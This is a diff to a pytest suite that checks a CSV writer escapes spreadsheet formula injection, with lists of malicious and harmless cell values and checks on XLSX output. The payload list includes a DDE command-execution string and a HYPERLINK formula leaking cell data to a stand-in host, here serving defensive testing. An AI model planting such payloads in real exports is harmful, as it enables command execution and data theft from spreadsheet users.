@@ -3,9 +3,11 @@
 from __future__ import annotations
 
 import csv
+import io
+import re
 import sqlite3
 from contextlib import closing
-from datetime import UTC, date, datetime
+from datetime import UTC, date, datetime, timedelta
 from decimal import Decimal
 
 import pytest
@@ -50,13 +52,88 @@ def test_csv_comes_back_as_it_was(tmp_path_factory, table):
     names, content = table
     path = tmp_path_factory.getbasetemp() / "any.csv"
 
-    written = write_csv(path, Rows(names, content))
+    written = write_csv(path, Rows(names, content), formulas=True)
 
     with path.open(encoding="utf-8-sig", newline="") as file:
         read = list(csv.reader(file))
     assert written.rows == len(content)
     assert read == [[plain(value) for value in row] for row in [names, *content]]
     assert media_file(path).mime_type == "text/plain"
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://x.example?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "+1+1",
+    "-2+3",
+]
+FORMULAS += [
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "  =1",
+    "\u00a0@x",
+    "\uff1d1",
+    "\x01=1",
+    "\0=1",
+    "\ufeff=1",
+    "-a",
+    "+",
+    "=",
+    "@",
+]
+LATER = ["a;=1", "a\t=1", "a\n@x", "a\r\n+1+1", "a; =1", "a;\n=1"]
+"""Formulas where a spreadsheet separates cells by something else."""
+HARMLESS = [
+    "",
+    "-",
+    "--",
+    "-5",
+    "+15550001111",
+    "-12.50",
+    "-1,234.5",
+    "+5%",
+    "a-b",
+    "mail@x.example",
+    "x=1",
+    "1+1",
+    "'=1",
+]
+
+
+@pytest.mark.parametrize("cell", [*FORMULAS, *LATER])
+def test_a_csv_has_no_formulas_in_cells_or_names(tmp_path, cell):
+    write_csv(tmp_path / "a.csv", Rows([cell, "b"], [[cell, 1], ["x", cell]]))
+
+    text = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
+    for found in (line for read in (text, text.replace('"', "")) for line in re.split(r"[,;\t\r\n]", read)):
+        assert not re.match(r"\s*[=+\-@\uff1d]", found.strip('"\x01\ufeff'))
+    if cell in FORMULAS:
+        assert next(csv.reader(io.StringIO(text, newline="")))[0].startswith("'")
+
+
+@pytest.mark.parametrize("cell", [*HARMLESS, -5, 1.5, Decimal("-1.50"), -timedelta(days=1, hours=3), None])
+def test_what_is_no_formula_stays_as_it_is(tmp_path, cell):
+    write_csv(tmp_path / "a.csv", Rows(["a"], [[cell], ["x"]]))
+
+    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
+        read = list(csv.reader(file))
+    assert read[1] in ([plain(cell)], [])
+
+
+def test_formulas_stay_where_they_are_wanted_and_a_sheet_has_none_anyway(tmp_path):
+    from openpyxl import load_workbook
+
+    write_csv(tmp_path / "a.csv", Rows(["=a"], [["=1+1"]]), formulas=True)
+    write_xlsx(tmp_path / "a.xlsx", Rows(["=a"], [["=1+1"], ["+1"], ["@x"]]))
+
+    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").split() == ["=a", "=1+1"]
+    sheet = load_workbook(tmp_path / "a.xlsx").active
+    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet] == [
+        [(text, "s")] for text in ("=a", "=1+1", "+1", "@x")
+    ]
 
 
 @settings(max_examples=60, deadline=None)
